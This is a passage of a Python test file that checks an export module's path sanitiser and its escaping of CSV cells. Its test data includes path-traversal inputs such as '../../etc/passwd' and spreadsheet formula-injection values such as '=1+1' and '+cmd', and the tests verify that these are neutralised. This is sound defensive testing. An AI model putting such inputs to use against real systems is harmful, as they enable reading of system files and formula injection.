    (("cam", "../../etc/passwd"), "cam/etc/passwd"),
    (("..", "sd"), "sd"),
    (("cam", "/abs/file.jpg"), "cam/abs/file.jpg"),
    (("cam", "C:\\boot.ini"), "cam/C_/boot.ini"),
    (("cam", "a\x00b\nc"), "cam/a_b_c"),
    (("..", "."), "unnamed"),
    (("lion/val/a.jpg",), "lion/val/a.jpg"),
])
def test_relative_path(parts, expected):
    assert exports.relative_path(*parts) == expected


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2-cmd", "'-2-cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=x", "'\t=x"),
    ("\r=x", "'\r=x"), ("-0.1234", "-0.1234"), ("leopard", "leopard"), (3, 3),
])
def test_csv_cell(value, expected):
    assert exports.csv_cell(value) == expected
